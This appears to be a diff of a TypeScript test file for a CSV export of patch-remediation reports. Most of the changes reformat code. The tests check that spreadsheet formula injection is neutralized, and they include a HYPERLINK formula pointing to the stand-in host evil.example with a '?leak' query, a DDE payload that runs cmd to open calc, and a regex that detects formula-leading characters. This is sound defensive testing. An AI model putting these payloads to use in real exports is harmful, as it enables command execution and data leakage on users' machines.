@@ -15,8 +15,10 @@ function parseCsv(text: string): string[][] {
       i++;
       for (;;) {
         assert.ok(i < text.length, 'unterminated quoted field');
-        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
-        else if (text[i] === '"') break;
+        if (text[i] === '"' && text[i + 1] === '"') {
+          field += '"';
+          i += 2;
+        } else if (text[i] === '"') break;
         else field += text[i++];
       }
       i++;
@@ -47,9 +49,22 @@ function parseCsv(text: string): string[][] {
 function expectedRow(p: PlanReport): string[] {
   const s = (v: string | number | boolean | null): string => (v === null ? '' : typeof v === 'string' ? neutralizeFormula(v) : String(v));
   return [
-    s(p.id), s(p.title), s(p.tier), s(p.state), s(p.severity), s(p.impact), s(p.kev), s(p.clockStart), s(p.deadline),
-    s(p.remediatedAt), s(p.timeToPatchHours), s(p.endpoints.targets), s(p.endpoints.patched), s(p.endpoints.failed),
-    s(p.endpointsPercent), s(p.exemptedBy.join(';')),
+    s(p.id),
+    s(p.title),
+    s(p.tier),
+    s(p.state),
+    s(p.severity),
+    s(p.impact),
+    s(p.kev),
+    s(p.clockStart),
+    s(p.deadline),
+    s(p.remediatedAt),
+    s(p.timeToPatchHours),
+    s(p.endpoints.targets),
+    s(p.endpoints.patched),
+    s(p.endpoints.failed),
+    s(p.endpointsPercent),
+    s(p.exemptedBy.join(';')),
   ];
 }
 
@@ -60,8 +75,22 @@ describe('renderCsv', () => {
   it('starts with the header row, in the documented column order', () => {
     const [header] = parseCsv(renderCsv(realistic));
     assert.deepEqual(header, [
-      'id', 'title', 'tier', 'state', 'severity', 'impact', 'kev', 'clockStart', 'deadline', 'remediatedAt',
-      'timeToPatchHours', 'targets', 'patched', 'failed', 'endpointsPercent', 'exemptedBy',
+      'id',
+      'title',
+      'tier',
+      'state',
+      'severity',
+      'impact',
+      'kev',
+      'clockStart',
+      'deadline',
+      'remediatedAt',
+      'timeToPatchHours',
+      'targets',
+      'patched',
+      'failed',
+      'endpointsPercent',
+      'exemptedBy',
     ]);
     assert.deepEqual(header, [...CSV_COLUMNS]);
   });
@@ -103,12 +132,13 @@ describe('renderCsv', () => {
     assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?leak","click me")`));
     assert.ok(cells.includes(`'+cmd|' /C calc'!A0`));
     assert.ok(cells.includes(`'\t=1+1`));
-    for (const cell of cells) assert.doesNotMatch(cell, /^\s*[=+@\uFF1D\uFF0B\uFF20]|^-(?!\d+(\.\d+)?$)/, `cell could run as a formula: ${JSON.stringify(cell)}`);
+    for (const cell of cells)
+      assert.doesNotMatch(cell, /^\s*[=+@\uFF1D\uFF0B\uFF20]|^-(?!\d+(\.\d+)?$)/, `cell could run as a formula: ${JSON.stringify(cell)}`);
   });
 
   it('keeps a negative number a plain number', () => {
     const rows = parseCsv(renderCsv(hostile));
-    const last = rows[rows.length - 1]!;
+    const last = rows[rows.length - 1];
     assert.equal(last[CSV_COLUMNS.indexOf('timeToPatchHours')], '-3');
   });
 
